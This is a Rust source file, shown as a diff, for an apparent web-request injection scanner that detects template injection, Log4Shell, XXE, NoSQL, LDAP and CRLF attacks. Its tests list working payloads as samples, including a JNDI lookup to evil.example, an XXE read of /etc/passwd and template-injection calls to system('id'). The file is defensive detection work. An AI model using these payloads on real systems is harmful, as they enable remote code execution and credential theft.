@@ -1,0 +1,313 @@
+//! The smaller languages: template expressions, NoSQL operators, LDAP filters, XML entities,
+//! Log4j lookups and header injection.
+
+use crate::rules;
+use crate::{Hits, Location};
+
+pub fn scan(view: &str, location: Location, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    if memchr::memchr3(b'{', b'<', b'$', bytes).is_some() || memchr::memchr(b'#', bytes).is_some() {
+        template(view, hits);
+        log4shell(view, hits);
+        xml(view, hits);
+    }
+    if memchr::memchr(b'$', bytes).is_some() {
+        nosql_operator(view, hits);
+    }
+    if memchr::memchr(b'(', bytes).is_some() && memchr::memchr(b')', bytes).is_some() {
+        ldap(view, hits);
+    }
+    if memchr::memchr2(b';', b'&', bytes).is_some() || memchr::memchr(b'|', bytes).is_some() {
+        nosql_javascript(view, hits);
+    }
+    if matches!(location, Location::Path | Location::QueryName | Location::QueryValue | Location::Header | Location::Cookie) {
+        crlf(view, hits);
+    }
+}
+
+/// Template expressions that compute or reach into objects: `{{7*7}}`, `{{config.items()}}`,
+/// `${7*7}`, `#{...}`, `<%= ... %>`, `{% ... %}` with calls, FreeMarker directives.
+fn template(view: &str, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    for (open, close) in [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<%", "%>"), ("{%", "%}"), ("*{", "}"), ("@(", ")"), ("[[", "]]")] {
+        let mut from = 0;
+        while let Some(off) = memchr::memmem::find(&bytes[from..], open.as_bytes()) {
+            let start = from + off;
+            from = start + open.len();
+            let inner_start = start + open.len();
+            let inner_end = memchr::memmem::find(&bytes[inner_start..], close.as_bytes())
+                .map_or(bytes.len(), |o| inner_start + o);
+            let inner = &view[inner_start..inner_end];
+            if template_code(open, inner, inner_end < bytes.len()) {
+                hits.add(&rules::SSTI_EXPRESSION, view, start);
+                return;
+            }
+        }
+    }
+    for marker in ["<#assign", "<#list", "[#assign", "freemarker.template", "?new()", "#set(", "$class.inspect", "th:text", "__${"] {
+        if let Some(pos) = memchr::memmem::find(bytes, marker.as_bytes()) {
+            hits.add(&rules::SSTI_EXPRESSION, view, pos);
+            return;
+        }
+    }
+}
+
+/// Whether the inside of a template delimiter is code rather than a placeholder name.
+fn template_code(open: &str, inner: &str, closed: bool) -> bool {
+    let inner = inner.trim();
+    if inner.is_empty() || inner.len() > 2048 {
+        return false;
+    }
+    let dunder = inner.contains("__");
+    let call = inner.contains('(') && inner.contains(')');
+    let arithmetic = inner
+        .split(['*', '+', '-', '/'])
+        .filter(|p| !p.trim().is_empty())
+        .count()
+        >= 2
+        && inner.bytes().any(|b| matches!(b, b'*' | b'+' | b'/'))
+        && inner.bytes().all(|b| b.is_ascii_digit() || b" *+-/'\"".contains(&b));
+    let reach = ["config", "self", "request", "settings", "app.", "env", "class", "system", "runtime", "getclass", "os.", "lipsum", "cycler", "joiner", "namespace", "range", "_self", "dump"]
+        .iter()
+        .any(|w| inner.starts_with(w) || inner.contains(&format!(".{w}")) || inner.contains(&format!("|{w}")));
+    let filter = inner.contains("|attr") || inner.contains("|filter") || inner.contains("|join") || inner.contains("|map");
+    match open {
+        "{{" | "[[" => closed && (dunder || call || arithmetic || reach || filter || inner.contains('[')),
+        "${" | "#{" | "*{" => closed && (dunder || call || arithmetic || reach) && !inner.starts_with("jndi:"),
+        "<%=" | "<%" => dunder || call || reach || arithmetic,
+        "{%" => (dunder || call) && closed,
+        "@(" => call || dunder,
+        _ => false,
+    }
+}
+
+/// `${jndi:ldap://...}` and its obfuscations (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`).
+fn log4shell(view: &str, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    let Some(start) = memchr::memmem::find(bytes, b"${") else {
+        return;
+    };
+    // Keep the letters nested lookups spell: `${lower:j}` -> `j`, `${::-n}` -> `n`,
+    // `${env:NaN:-d}` -> `d`.
+    let mut spelled = String::new();
+    let mut i = start;
+    while i < bytes.len() && spelled.len() < 64 {
+        if bytes[i..].starts_with(b"${") {
+            i += 2;
+            let rest = &view[i..];
+            let lookup_end = rest.find(['}', '$']).unwrap_or(rest.len());
+            if let Some(default) = rest[..lookup_end].find(":-") {
+                i += default + 2;
+            } else if let Some(colon) = rest[..lookup_end].find(':')
+                && matches!(&rest[..colon], "lower" | "upper")
+            {
+                i += colon + 1;
+            }
+            continue;
+        }
+        if bytes[i] != b'}' {
+            spelled.push(bytes[i] as char);
+        }
+        i += 1;
+    }
+    let lookup = ["jndi:", "env:", "sys:", "java:", "ctx:", "k8s:", "docker:", "main:", "bundle:", "spring:"];
+    if lookup.iter().any(|l| spelled.starts_with(l) || spelled.contains(&format!(":{l}")))
+        || spelled.replace(':', "").contains("jndi")
+    {
+        hits.add(&rules::LOG4SHELL_LOOKUP, view, start);
+    }
+}
+
+/// XML that declares entities or a DTD: the prerequisite for XXE and billion-laughs.
+fn xml(view: &str, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    for marker in ["<!doctype", "<!entity", "<!element", "<!attlist"] {
+        if let Some(pos) = memchr::memmem::find(bytes, marker.as_bytes()) {
+            let rest = &view[pos..];
+            if marker != "<!doctype" || rest.contains('[') || rest.contains("system") || rest.contains("public") {
+                hits.add(&rules::XXE_DOCTYPE, view, pos);
+                return;
+            }
+        }
+    }
+    if let Some(pos) = memchr::memmem::find(bytes, b"<?xml") {
+        hits.add(&rules::XXE_XML_DECL, view, pos);
+    } else if let Some(pos) = memchr::memmem::find(bytes, b"<![cdata[") {
+        hits.add(&rules::XXE_XML_DECL, view, pos);
+    } else if let Some(pos) = memchr::memmem::find(bytes, b"%") {
+        // A parameter-entity reference: `%xxe;`.
+        let rest = &bytes[pos + 1..];
+        let name = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
+        if name > 0 && rest.get(name) == Some(&b';') && rest[..name].iter().any(u8::is_ascii_alphabetic) {
+            hits.add(&rules::XXE_XML_DECL, view, pos);
+        }
+    }
+}
+
+const MONGO_OPERATORS: &[&str] = &[
+    "ne", "eq", "gt", "gte", "lt", "lte", "in", "nin", "regex", "where", "exists", "or", "and",
+    "nor", "not", "expr", "function", "accumulator", "elemmatch", "all", "size", "type", "mod",
+    "text", "jsonschema", "comment", "lookup", "unionwith", "merge", "out",
+];
+
+/// `{"$ne": null}`, `user[$ne]=x`, `$where: '1 == 1'`.
+fn nosql_operator(view: &str, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    let mut from = 0;
+    while let Some(off) = memchr::memchr(b'$', &bytes[from..]) {
+        let at = from + off;
+        from = at + 1;
+        let before_ok = at == 0 || matches!(bytes[at - 1], b'{' | b'[' | b',' | b'"' | b'\'' | b' ' | b'(');
+        if !before_ok {
+            continue;
+        }
+        let name_len = bytes[at + 1..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
+        let name = &view[at + 1..at + 1 + name_len];
+        let after = bytes.get(at + 1 + name_len);
+        let after_ok = after.is_none_or(|b| matches!(b, b']' | b':' | b'"' | b'\'' | b' '));
+        if after_ok && MONGO_OPERATORS.contains(&name) {
+            // A bare word like `$in` in prose needs the structure around it.
+            let structured = at > 0 || after.is_some_and(|b| matches!(b, b']' | b':' | b'"' | b'\''));
+            if structured {
+                hits.add(&rules::NOSQLI_OPERATOR, view, at);
+                return;
+            }
+        }
+    }
+}
+
+/// JavaScript injected into a MongoDB `$where` or map-reduce: `'; return true; var x='`,
+/// `' && this.password.match(/.*/)//`, `db.users.find()`.
+fn nosql_javascript(view: &str, hits: &mut Hits) {
+    let compact: String = view.chars().filter(|c| !c.is_whitespace()).take(4096).collect();
+    for marker in ["this.password", "this.passwordzz", ";return", "db.", "while(", "sleep(", "==", "||1", "&&this."] {
+        if let Some(pos) = compact.find(marker) {
+            let strong = match marker {
+                "db." => compact[pos..].contains('(') && (pos == 0 || !compact.as_bytes()[pos - 1].is_ascii_alphanumeric()),
+                "==" => compact.starts_with("||") || compact.contains("'=='") || compact.contains("||1=="),
+                ";return" => compact[..pos].ends_with(['\'', '"']) || compact[..pos].ends_with('0') || pos == 0 || compact[..pos].contains('\''),
+                "sleep(" | "while(" => compact[..pos].contains(['\'', '"', ';']),
+                _ => true,
+            };
+            if strong {
+                hits.add(&rules::NOSQLI_JS, view, 0);
+                return;
+            }
+        }
+    }
+}
+
+/// Closing an LDAP filter and opening another: `*)(uid=*))(|(uid=*`, `admin)(&)`,
+/// `*(|(mail=*))`.
+fn ldap(view: &str, hits: &mut Hits) {
+    let compact: String = view.chars().filter(|c| !c.is_whitespace()).take(4096).collect();
+    let b = compact.as_bytes();
+    if compact.contains("(&)") || compact.contains("(|)") {
+        hits.add(&rules::LDAPI_FILTER, view, 0);
+        return;
+    }
+    for i in 0..b.len().saturating_sub(2) {
+        // `)(` closes the application's filter and opens the attacker's; `(|(` and `(&(`
+        // open a compound one. Either way an attribute assertion must follow.
+        let next = if b[i] == b')' && b[i + 1] == b'(' {
+            i + 2
+        } else if b[i] == b'(' && matches!(b[i + 1], b'|' | b'&' | b'!') && b[i + 2] == b'(' {
+            i + 3
+        } else {
+            continue;
+        };
+        if ldap_assertion(&b[next..]) {
+            hits.add(&rules::LDAPI_FILTER, view, 0);
+            return;
+        }
+    }
+}
+
+/// `attr=`, `attr~=`, `attr>=`, `attr<=` or a nested `|(`, `&(`, `!(`.
+fn ldap_assertion(rest: &[u8]) -> bool {
+    if rest.len() >= 2 && matches!(rest[0], b'|' | b'&' | b'!') && rest[1] == b'(' {
+        return ldap_assertion(&rest[2..]);
+    }
+    let name = rest
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b';'))
+        .count();
+    name > 0 && matches!(&rest[name..], [b'=', ..] | [b'~' | b'>' | b'<', b'=', ..])
+}
+
+/// A line break followed by a header: response splitting and header injection.
+fn crlf(view: &str, hits: &mut Hits) {
+    let bytes = view.as_bytes();
+    let mut from = 0;
+    while let Some(off) = memchr::memchr2(b'\r', b'\n', &bytes[from..]) {
+        let at = from + off;
+        from = at + 1;
+        let mut i = at;
+        while i < bytes.len() && matches!(bytes[i], b'\r' | b'\n') {
+            i += 1;
+        }
+        while i < bytes.len() && matches!(bytes[i], b' ' | b'\t') {
+            i += 1;
+        }
+        let name = bytes[i..].iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
+        if name > 0 && bytes.get(i + name) == Some(&b':') {
+            hits.add(&rules::CRLF_HEADER, view, at);
+            return;
+        }
+        if bytes[at..].starts_with(b"\r\n\r\n") || bytes[at..].starts_with(b"\n\n<") {
+            hits.add(&rules::CRLF_HEADER, view, at);
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::test_support::{families, families_at};
+    use crate::Location;
+
+    #[test]
+    fn the_smaller_languages_are_found() {
+        for (attack, family) in [
+            ("{{7*7}}", "ssti"),
+            ("{{config.items()}}", "ssti"),
+            ("${7*7}", "ssti"),
+            ("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"),
+            ("<%= system('id') %>", "ssti"),
+            ("<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti"),
+            ("${jndi:ldap://evil.example/a}", "log4shell"),
+            ("${${lower:j}ndi:${lower:l}dap://x/a}", "log4shell"),
+            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "log4shell"),
+            ("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
+            ("{\"$ne\": null}", "nosqli"),
+            ("[$ne]=1", "nosqli"),
+            ("true, $where: '1 == 1'", "nosqli"),
+            ("'; return true; var x='", "nosqli"),
+            ("*)(uid=*))(|(uid=*", "ldapi"),
+            ("admin)(&)", "ldapi"),
+        ] {
+            assert!(families(attack, 1).contains(&family), "missed {family}: {attack}");
+        }
+        assert!(families_at("x\r\nSet-Cookie: a=b", Location::QueryValue, 1).contains(&"crlf"));
+        assert!(families_at("%0d%0aLocation:%20http://evil", Location::Header, 1).contains(&"crlf"));
+    }
+
+    #[test]
+    fn ordinary_text_is_left_alone() {
+        for benign in [
+            "{{name}}",
+            "Hello {{ user }}",
+            "costs $5 or $10",
+            "{% $SENDER_FULL_NAME %} BLAH",
+            "price in $ (dollars)",
+            "(see above)",
+            "f(x) = (a)(b)",
+            "100% sure",
+            "${HOME}",
+        ] {
+            assert!(families(benign, 1).is_empty(), "false positive: {benign} {:?}", families(benign, 1));
+        }
+        // A line break in a body's text is prose, not a header.
+        assert!(!families_at("Dear team,\nNote: see below", Location::BodyValue, 1).contains(&"crlf"));
+    }
+}
